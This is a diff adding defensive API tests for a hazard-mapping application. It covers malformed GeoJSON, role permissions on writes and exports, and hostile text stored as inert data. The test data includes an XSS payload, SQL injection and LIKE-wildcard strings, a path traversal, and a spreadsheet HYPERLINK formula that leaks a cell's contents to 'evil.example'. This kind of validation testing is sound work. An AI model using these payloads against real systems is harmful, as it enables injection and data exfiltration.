@@ -5,6 +5,7 @@
  */
 import { sql } from 'drizzle-orm'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { GEOJSON_LIMITS } from '../common/geojson.ts'
 import type { Database } from '../db/client.ts'
 import { openTestDatabase, TEST_DEMO_PASSWORD, TEST_KOMMUN } from '../db/testing/test-database.ts'
 import { createApp, MAX_BODY_BYTES } from './app.ts'
@@ -40,6 +41,15 @@ beforeAll(async () => {
     sql`SELECT id::text AS id FROM users WHERE username = 'lasare'`,
   )
   viewerId = row!.id
+  const [centre] = await db.query<{ x: number; y: number }>(
+    sql`SELECT ST_X(p) AS x, ST_Y(p) AS y
+      FROM (SELECT ST_PointOnSurface(geom) AS p FROM areas WHERE kind = 'municipality' LIMIT 1) m`,
+  )
+  inside = [Number(Number(centre!.x).toFixed(6)), Number(Number(centre!.y).toFixed(6))]
+  const [someSite] = await db.query<{ id: string }>(
+    sql`SELECT id::text AS id FROM hazard_sites ORDER BY id LIMIT 1`,
+  )
+  siteId = someSite!.id
   checksumsBefore = await tableChecksums(db)
 })
 
@@ -63,10 +73,12 @@ interface BadInput {
   method?: 'GET' | 'POST' | 'PATCH' | 'DELETE' | 'PUT'
   path: string | (() => string)
   headers?: Record<string, string> | (() => Record<string, string>)
-  /** An object is sent as JSON; a string as it is. */
+  /** An object is sent as JSON; a string or bytes as they are; a function is called first. */
   body?: unknown
   status: number
   code?: string
+  /** What the message must say, where the reason matters more than the status. */
+  message?: RegExp
   /** Requests to make first (with the same app), for rows about what follows them. */
   before?: number
   /** Another app, for rows about rate limits. */
@@ -110,6 +122,51 @@ const features = (query: string) => ({
 })
 const tile = (address: string) => ({ as: 'krisledare' as const, path: `/tiles/${address}` })
 const sessionCookie = (value: string) => ({ cookie: `${SESSION_COOKIE}=${value}` })
+
+/** A point in the middle of the demo municipality, where new objects may lie. */
+let inside: [number, number]
+/** A small closed ring around `inside`, `d` degrees across. */
+const ringAround = (d = 0.01): number[][] => {
+  const [x, y] = inside
+  return [
+    [x, y],
+    [x + d, y],
+    [x + d, y + d],
+    [x, y + d],
+    [x, y],
+  ]
+}
+/** A new object for a layer, by the analyst (who may edit every hazard layer). */
+const create = (layer: string, feature: () => unknown, as: User = 'analytiker') => ({
+  as,
+  method: 'POST' as const,
+  path: `/api/layers/${layer}/features`,
+  headers: json,
+  body: feature,
+})
+const zone = (geometry: () => unknown) =>
+  create('hazard-zones', () => ({
+    type: 'Feature',
+    geometry: geometry(),
+    properties: { name: 'Testzon', kind: 'seveso_consultation' },
+  }))
+const polygon = (coordinates: () => unknown) => zone(() => ({ type: 'Polygon', coordinates: coordinates() }))
+const site =
+  (properties: Record<string, unknown> = {}, geometry?: () => unknown) =>
+  () => ({
+    type: 'Feature',
+    geometry: geometry ? geometry() : { type: 'Point', coordinates: inside },
+    properties: { name: 'Testmacken', kind: 'petrol_station', ...properties },
+  })
+/** A change to an existing hazard site, found in `beforeAll`. */
+let siteId: string
+const changeSite = (body: unknown, as: User = 'analytiker') => ({
+  as,
+  method: 'PATCH' as const,
+  path: () => `/api/layers/hazard-sites/features/${siteId}`,
+  headers: json,
+  body,
+})
 
 const badInputs: BadInput[] = [
   // Malformed JSON
@@ -530,6 +587,307 @@ const badInputs: BadInput[] = [
   { name: 'audit page too long', as: 'admin', path: '/api/audit?limit=100000', status: 400 },
   { name: 'negative audit offset', as: 'admin', path: '/api/audit?offset=-1', status: 400 },
   { name: 'search limit of zero', as: 'lasare', path: '/api/search?q=ab&limit=0', status: 400 },
+  // GeoJSON, malformed and hostile
+  {
+    name: 'a FeatureCollection for a Feature',
+    ...create('hazard-sites', () => ({ type: 'FeatureCollection', features: [site()()] })),
+    status: 400,
+  },
+  {
+    name: 'a bare geometry for a Feature',
+    ...create('hazard-sites', () => ({ type: 'Point', coordinates: inside })),
+    status: 400,
+  },
+  {
+    name: 'unknown geometry type',
+    ...create(
+      'hazard-sites',
+      site({}, () => ({ type: 'Circle', coordinates: inside, radius: 10 })),
+    ),
+    status: 400,
+  },
+  {
+    name: 'feature without a geometry',
+    ...create('hazard-sites', () => ({ type: 'Feature', properties: { name: 'x', kind: 'petrol_station' } })),
+    status: 400,
+  },
+  {
+    name: 'feature with a null geometry',
+    ...create(
+      'hazard-sites',
+      site({}, () => null),
+    ),
+    status: 400,
+  },
+  {
+    name: 'feature without properties',
+    ...create('hazard-sites', () => ({ type: 'Feature', geometry: { type: 'Point', coordinates: inside } })),
+    status: 400,
+  },
+  {
+    name: 'feature choosing its own id',
+    ...create('hazard-sites', () => ({ ...site()(), id: UNUSED_UUID })),
+    status: 400,
+  },
+  {
+    name: 'longitude out of range',
+    ...create(
+      'hazard-sites',
+      site({}, () => ({ type: 'Point', coordinates: [200, 58] })),
+    ),
+    status: 400,
+  },
+  {
+    name: 'latitude out of range',
+    ...create(
+      'hazard-sites',
+      site({}, () => ({ type: 'Point', coordinates: [16, -95] })),
+    ),
+    status: 400,
+  },
+  {
+    name: 'latitude and longitude swapped',
+    ...create(
+      'hazard-sites',
+      site({}, () => ({ type: 'Point', coordinates: [inside[1], inside[0]] })),
+    ),
+    status: 400,
+  },
+  {
+    name: 'coordinates as strings',
+    ...create(
+      'hazard-sites',
+      site({}, () => ({ type: 'Point', coordinates: [String(inside[0]), String(inside[1])] })),
+    ),
+    status: 400,
+  },
+  {
+    name: 'a point without coordinates',
+    ...create(
+      'hazard-sites',
+      site({}, () => ({ type: 'Point', coordinates: [] })),
+    ),
+    status: 400,
+  },
+  {
+    name: 'a position of four numbers',
+    ...create(
+      'hazard-sites',
+      site({}, () => ({ type: 'Point', coordinates: [...inside, 0, 0] })),
+    ),
+    status: 400,
+  },
+  {
+    name: 'NaN as a coordinate',
+    ...create(
+      'hazard-sites',
+      () =>
+        '{"type":"Feature","geometry":{"type":"Point","coordinates":[NaN,58]},"properties":{"name":"x","kind":"petrol_station"}}',
+    ),
+    status: 400,
+  },
+  {
+    name: 'Infinity as a coordinate',
+    ...create(
+      'hazard-sites',
+      () =>
+        '{"type":"Feature","geometry":{"type":"Point","coordinates":[1e999,58]},"properties":{"name":"x","kind":"petrol_station"}}',
+    ),
+    status: 400,
+  },
+  { name: 'unclosed ring', ...polygon(() => [ringAround().slice(0, 4)]), status: 400, message: /not closed/ },
+  {
+    name: 'ring of three positions',
+    ...polygon(() => [[...ringAround().slice(0, 2), ringAround()[0]]]),
+    status: 400,
+    message: /four positions/,
+  },
+  { name: 'polygon without rings', ...polygon(() => []), status: 400 },
+  {
+    name: 'self-intersecting polygon',
+    ...polygon(() => {
+      const [a, b, c, d] = ringAround()
+      return [[a, c, b, d, a]]
+    }),
+    status: 400,
+    message: /Self-intersection/,
+  },
+  {
+    name: 'more vertices than allowed',
+    ...polygon(() => [Array.from({ length: GEOJSON_LIMITS.maxVertices + 1 }, () => [16, 58])]),
+    status: 400,
+    message: /vertices/,
+  },
+  {
+    name: 'nested geometry collections',
+    ...zone(() => ({
+      type: 'GeometryCollection',
+      geometries: [
+        { type: 'GeometryCollection', geometries: [{ type: 'Polygon', coordinates: [ringAround()] }] },
+      ],
+    })),
+    status: 400,
+  },
+  {
+    name: 'a point for a polygon layer',
+    ...zone(() => ({ type: 'Point', coordinates: inside })),
+    status: 400,
+    message: /takes MultiPolygon or Polygon/,
+  },
+  {
+    name: 'a polygon for a point layer',
+    ...create(
+      'hazard-sites',
+      site({}, () => ({ type: 'Polygon', coordinates: [ringAround()] })),
+    ),
+    status: 400,
+    message: /takes Point/,
+  },
+  {
+    name: 'a geometry far from the municipality',
+    ...create(
+      'hazard-sites',
+      site({}, () => ({ type: 'Point', coordinates: [inside[0] + 5, inside[1] - 5] })),
+    ),
+    status: 400,
+    message: /outside the municipality/,
+  },
+  { name: 'an unknown property', ...create('hazard-sites', site({ createdBy: 'someone' })), status: 400 },
+  { name: 'a property of the wrong type', ...create('hazard-sites', site({ name: 42 })), status: 400 },
+  { name: 'a missing required property', ...create('hazard-sites', site({ kind: undefined })), status: 400 },
+  { name: 'a huge property', ...create('hazard-sites', site({ operator: huge(100_000) })), status: 400 },
+  {
+    name: 'NUL in a property',
+    ...create('hazard-sites', site({ name: 'Test\u0000macken' })),
+    status: 400,
+    message: /NUL/,
+  },
+  {
+    name: 'SQL injection in a property enum',
+    ...create('hazard-sites', site({ kind: sqlInjection })),
+    status: 400,
+  },
+  {
+    name: 'an unknown classification',
+    ...create('hazard-sites', site({ classification: 'top-secret' })),
+    status: 400,
+  },
+  {
+    name: 'a classification below the layer',
+    ...create('hazard-sites', site({ classification: 'open' })),
+    status: 400,
+    message: /too low/,
+  },
+  {
+    name: 'an incident at a time that is no time',
+    ...create(
+      'incidents',
+      () => ({
+        type: 'Feature',
+        geometry: { type: 'Point', coordinates: inside },
+        properties: { category: 'vandalism', source: 'police', occurredAt: 'last night' },
+      }),
+      'polis',
+    ),
+    status: 400,
+  },
+  { name: 'a change naming nothing', ...changeSite({}), status: 400 },
+  {
+    name: 'a change with an unknown field',
+    ...changeSite({ properties: { name: 'x' }, type: 'Feature' }),
+    status: 400,
+  },
+  {
+    name: 'a change moving a point to a polygon',
+    ...changeSite({ geometry: { type: 'Polygon', coordinates: [] } }),
+    status: 400,
+  },
+  {
+    name: 'a change of a feature id that is no UUID',
+    ...changeSite({ properties: { name: 'x' } }),
+    path: `/api/layers/hazard-sites/features/${encodeURIComponent(sqlInjection)}`,
+    status: 400,
+  },
+  {
+    name: 'a change of a feature that does not exist',
+    ...changeSite({ properties: { name: 'x' } }),
+    path: `/api/layers/hazard-sites/features/${UNUSED_UUID}`,
+    status: 404,
+  },
+  {
+    name: 'deleting a feature that does not exist',
+    as: 'analytiker',
+    method: 'DELETE',
+    path: `/api/layers/hazard-sites/features/${UNUSED_UUID}`,
+    status: 404,
+  },
+  // Writing without the right to
+  {
+    name: 'the viewer creates an object',
+    ...create('hazard-sites', site(), 'lasare'),
+    status: 403,
+    code: 'forbidden',
+  },
+  {
+    name: 'the planner changes a hazard site',
+    ...changeSite({ properties: { name: 'x' } }, 'planerare'),
+    status: 403,
+    code: 'forbidden',
+  },
+  {
+    name: 'the police delete a hazard site',
+    as: 'polis',
+    method: 'DELETE',
+    path: () => `/api/layers/hazard-sites/features/${siteId}`,
+    status: 403,
+    code: 'forbidden',
+  },
+  {
+    name: 'the crisis manager edits a hazard layer',
+    ...create('hazard-zones', site(), 'krisledare'),
+    status: 403,
+    code: 'forbidden',
+  },
+  {
+    name: 'the administrator edits a layer no one edits',
+    ...create('districts', site(), 'admin'),
+    status: 403,
+    code: 'forbidden',
+  },
+  {
+    name: 'the viewer creates an incident it cannot see',
+    ...create('incidents', site(), 'lasare'),
+    status: 404,
+  },
+  { name: 'editing a layer that does not exist', ...create('no-such-layer', site()), status: 404 },
+  { name: 'a write by PUT', ...changeSite({ properties: { name: 'x' } }), method: 'PUT', status: 404 },
+  // Exports
+  {
+    name: 'export in an unknown format',
+    as: 'krisledare',
+    path: '/api/layers/critical-assets/export?format=xlsx',
+    status: 400,
+  },
+  {
+    name: 'export with a bad box',
+    as: 'krisledare',
+    path: '/api/layers/critical-assets/export?bbox=1,2,3',
+    status: 400,
+  },
+  {
+    name: 'export of an internal layer by the viewer',
+    as: 'lasare',
+    path: '/api/layers/critical-assets/export',
+    status: 403,
+    code: 'forbidden',
+  },
+  {
+    name: 'export of a restricted layer by the viewer',
+    as: 'lasare',
+    path: '/api/layers/incidents/export',
+    status: 404,
+  },
+  { name: 'export by traversal', as: 'krisledare', path: '/api/layers/..%2Fusers/export', status: 404 },
   // Timestamps
   { name: 'a word for a time', ...features('from=yesterday'), status: 400 },
   { name: 'thirteenth month', ...features('from=2024-13-01'), status: 400 },
@@ -557,15 +915,18 @@ let expiredToken: string
 let revokedToken: string
 let storedTokenHash: string
 
-const bodyOf = (body: unknown): BodyInit | undefined =>
-  body === undefined
+const bodyOf = (given: unknown): BodyInit | undefined => {
+  const body = typeof given === 'function' ? given() : given
+  return body === undefined
     ? undefined
     : typeof body === 'string' || body instanceof Uint8Array
       ? (body as BodyInit)
       : JSON.stringify(body)
+}
 
 /** The strings of the request a message may quote back: path segments, query values, body strings. */
-function echoesOf(path: string, body: unknown): string[] {
+function echoesOf(path: string, given: unknown): string[] {
+  const body = typeof given === 'function' ? given() : given
   const url = new URL(path, 'http://localhost')
   const decode = (s: string) => {
     try {
@@ -625,6 +986,7 @@ describe('bad input gets a 4xx in the contract shape and changes nothing', () =>
       echoes: echoesOf(path, row.body),
     })
     if (row.code) expect(error.code).toBe(row.code)
+    if (row.message) expect(error.message).toMatch(row.message)
     if (row.status === 429) expect(Number(res.headers.get('retry-after'))).toBeGreaterThan(0)
   })
 
@@ -634,5 +996,150 @@ describe('bad input gets a 4xx in the contract shape and changes nothing', () =>
 
   it('met no input it did not expect', () => {
     expect(unexpected.map(String)).toEqual([])
+  })
+})
+
+describe('hostile text that is valid is stored and answered as inert text', () => {
+  const hostileName = `<img src=x onerror=alert(1)> ${script} '; DROP TABLE hazard_sites; --`
+  const formula = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'
+
+  it('keeps a display name with markup, SQL and unusual characters exactly, as a JSON string', async () => {
+    const displayName = `${script} Ro\u0308d 🚒 \u202eemos\u202c ${sqlInjection}`
+    const res = await send(
+      {
+        ...newUser({ username: `hostile-${Date.now().toString(36)}`, displayName }),
+        status: 201,
+        name: 'hostile display name',
+      },
+      app,
+    )
+    expect(res.status).toBe(201)
+    expect(res.headers.get('content-type')).toMatch(/^application\/json/)
+    expect(res.headers.get('x-content-type-options')).toBe('nosniff')
+    expect(res.headers.get('content-security-policy')).toMatch(/script-src 'self'/)
+    const { user } = (await res.json()) as { user: { id: string; displayName: string } }
+    expect(user.displayName).toBe(displayName)
+    const listed = (await (
+      await send({ as: 'admin', path: '/api/users', status: 200, name: 'list' }, app)
+    ).json()) as {
+      users: { id: string; displayName: string }[]
+    }
+    expect(listed.users.find((u) => u.id === user.id)?.displayName).toBe(displayName)
+  })
+
+  it('keeps an object’s hostile name and a spreadsheet formula exactly, and defuses the formula in CSV', async () => {
+    const res = await send(
+      {
+        ...create('hazard-sites', site({ name: hostileName, operator: formula })),
+        status: 201,
+        name: 'hostile site',
+      },
+      app,
+    )
+    expect(res.status).toBe(201)
+    const created = (await res.json()) as { id: string; properties: Record<string, unknown> }
+    expect(created.properties).toMatchObject({ name: hostileName, operator: formula })
+
+    const read = await (
+      await app.request(`/api/layers/hazard-sites/features/${created.id}`, {
+        headers: { cookie: cookies.lasare },
+      })
+    ).json()
+    expect(read.properties).toMatchObject({ name: hostileName, operator: formula })
+
+    const search = (await (
+      await app.request(`/api/search?q=${encodeURIComponent('onerror=alert(1)')}`, {
+        headers: { cookie: cookies.lasare },
+      })
+    ).json()) as { results: { id: string; name: string }[] }
+    expect(search.results.find((r) => r.id === created.id)?.name).toBe(hostileName)
+
+    const geojson = (await (
+      await app.request('/api/layers/hazard-sites/export?format=geojson', {
+        headers: { cookie: cookies.krisledare },
+      })
+    ).json()) as { features: { id: string; properties: Record<string, unknown> }[] }
+    expect(geojson.features.find((f) => f.id === created.id)?.properties).toMatchObject({
+      name: hostileName,
+      operator: formula,
+    })
+
+    const csv = await (
+      await app.request('/api/layers/hazard-sites/export?format=csv', {
+        headers: { cookie: cookies.krisledare },
+      })
+    ).text()
+    const line = csv.split('\r\n').find((l) => l.startsWith(created.id))
+    expect(line).toBeDefined()
+    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Klicka"")"`)
+    expect(line).not.toMatch(/(^|,)"?=HYPERLINK/)
+
+    const [audit] = await db.query<{ after: { properties: Record<string, unknown> } }>(
+      sql`SELECT after FROM audit_log WHERE entity_id = ${created.id} AND action = 'create'`,
+    )
+    expect(audit?.after.properties).toMatchObject({ name: hostileName, operator: formula })
+  })
+
+  it.each([sqlInjection, unionInjection, "%' OR name LIKE '%", '\\\\_%'])(
+    'searches for %s literally, finding only names that contain it',
+    async (text) => {
+      for (const user of ['lasare', 'krisledare'] as const) {
+        const res = await app.request(`/api/search?q=${encodeURIComponent(text)}&limit=50`, {
+          headers: { cookie: cookies[user] },
+        })
+        expect(res.status).toBe(200)
+        const { results } = (await res.json()) as { results: { name: string }[] }
+        for (const r of results) expect(r.name.toLowerCase()).toContain(text.toLowerCase())
+      }
+    },
+  )
+})
+
+/**
+ * Bad input that still gets a 500 because of faults outside this suite's files; each is described in
+ * the report of the test work. `it.fails` keeps the suite green while the fault is there and turns
+ * red once it is fixed: then move the row into `badInputs` above.
+ */
+const knownFaults: BadInput[] = [
+  // server/layers/filters.ts: `isoDate` accepts what `Date.parse` rolls over (30 February, year 0),
+  // which PostgreSQL refuses when the filter reaches the query.
+  { name: 'a day that does not exist in a features filter', ...features('from=2024-02-30'), status: 400 },
+  {
+    name: 'a leap day in a common year in a tile filter',
+    ...tile('incidents/10/553/300.mvt?to=2023-02-29T10:00Z'),
+    status: 400,
+  },
+  {
+    name: 'year zero in an export filter',
+    as: 'krisledare',
+    path: '/api/layers/incidents/export?from=0000-01-01',
+    status: 400,
+  },
+  // server/layers/edit-routes.ts: an `ownerActorId` that names no actor fails the foreign key in
+  // the INSERT instead of being checked first (as `requireActor` does for users).
+  {
+    name: 'an owner that does not exist',
+    ...create(
+      'critical-assets',
+      () => ({
+        type: 'Feature',
+        geometry: { type: 'Point', coordinates: inside },
+        properties: { name: 'Testverket', sector: 'energy', function: 'Test', ownerActorId: UNUSED_UUID },
+      }),
+      'krisledare',
+    ),
+    status: 400,
+  },
+]
+
+describe('known faults elsewhere (fail until fixed)', () => {
+  it.fails.each(knownFaults.map((row) => [row.name, row] as const))('%s', async (_, row) => {
+    const quiet = createApp({
+      db,
+      config: { kommun: TEST_KOMMUN },
+      limits: createRateLimits(),
+      log: () => {},
+    })
+    await expectContractError(await send(row, quiet), row.status, { what: row.name })
   })
 })
